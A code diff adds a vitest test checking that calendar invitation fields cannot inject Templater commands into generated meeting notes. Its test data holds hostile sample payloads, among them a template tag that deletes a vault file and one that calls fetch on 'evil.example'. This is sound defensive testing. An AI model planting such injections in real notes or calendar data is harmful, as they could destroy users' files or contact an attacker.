@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest';
-import { attendeeNames, fillEmpty } from '../../src/meeting-event/event-keys.js';
+import { attendeeNames, fillEmpty, meetingKeysOf } from '../../src/meeting-event/event-keys.js';
 import { findMeetingEvent, newMeetingKeys, writeEventToNotes } from '../../src/meeting-event/match-meeting.js';
 import { configuredProjects, seriesProjects } from '../../src/meeting-event/series-projects.js';
 import { parseNote, renderFrontmatter } from '../../src/vault/format/frontmatter.js';
@@ -37,6 +37,22 @@ describe('attendeeNames', () => {
 
   test('an event without an organizer or attendees keeps the names there', () => {
     expect(attendeeNames({ ...WEEKLY, organizer: null, attendees: [] }, ['Speaker 1'])).toEqual(['Speaker 1']);
+  });
+});
+
+describe('meetingKeysOf', () => {
+  test("an invitation's title, organizer, place and people are written inert: Templater's <% never runs in the new note", () => {
+    const hostile = {
+      ...WEEKLY,
+      title: '<%* app.vault.adapter.remove("x") %> Sync',
+      location: 'Room <% tp.file.title %>',
+      organizer: person('<%+ tp.date.now() %>', 'ann@example.com'),
+      attendees: [person('Bob <%* await fetch("https://evil.example") %>', 'bob@example.com')],
+    };
+    const written = JSON.stringify([meetingKeysOf(hostile), attendeeNames(hostile, [])]);
+    expect(written).not.toContain('<%');
+    expect(meetingKeysOf(hostile).title).toBe('<\\%* app.vault.adapter.remove("x") %> Sync');
+    expect(meetingKeysOf(WEEKLY)).toMatchObject({ title: 'Weekly Platform Sync', organizer: 'Ann Lee', location: 'Room 4' });
   });
 });
 
